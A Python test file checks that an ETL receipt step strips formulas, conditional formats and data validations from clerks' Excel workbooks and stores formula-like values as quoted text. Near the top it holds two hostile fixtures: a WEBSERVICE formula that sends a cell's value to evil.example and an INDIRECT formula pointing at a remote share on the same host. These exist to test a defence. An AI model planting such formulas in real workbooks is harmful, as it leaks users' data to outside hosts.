"""etl/ingest/receipts/safe_workbook.py: the copy of a clerk's workbook in a receipt carries values, never
anything Excel evaluates — cell formulas, and the formulas of conditional formats and data validations."""

from __future__ import annotations

import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.worksheet.datavalidation import DataValidation

from etl.excel_safe import set_cell, write_workbook
from etl.ingest.receipts.safe_workbook import values_only_copy

CALLS_OUT = 'LEN(WEBSERVICE("http://evil.example/?"&$A$1))>0'


def test_conditional_formats_and_validations_are_not_copied(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet["A1"], sheet["B1"] = "区县", "=1+1"
    sheet.conditional_formatting.add("A1:A10", FormulaRule(formula=[CALLS_OUT]))
    rule = DataValidation(type="custom", formula1="=INDIRECT(\"'\\\\evil.example\\s\\[x.xlsx]S'!A1\")")
    sheet.add_data_validation(rule)
    rule.add("B1:B10")
    clerk = tmp_path / "clerk.xlsx"
    book.save(clerk)

    copy = write_workbook(values_only_copy(clerk), tmp_path / "receipt.xlsx")
    with zipfile.ZipFile(copy) as archive:
        xml = "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".xml"))
    assert "WEBSERVICE" not in xml and "INDIRECT" not in xml and "<f>" not in xml
    assert "<formula" not in xml and "conditionalFormatting" not in xml and "dataValidation" not in xml


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
@given(rest=st.text(max_size=30))
def test_every_formula_looking_value_is_saved_as_text(tmp_path_factory, prefix, rest):
    """= + - @, a tab or a return, and their full-width forms (＝SUM(…): Excel in Chinese makes it a formula
    once the cell is edited) at the start of a value: a string cell, shown with a quote prefix."""
    book = Workbook()
    cell = set_cell(book.active["A1"], prefix + rest)
    assert cell.data_type == "s" and cell.quotePrefix
    path = write_workbook(book, tmp_path_factory.mktemp("q") / "out.xlsx")
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
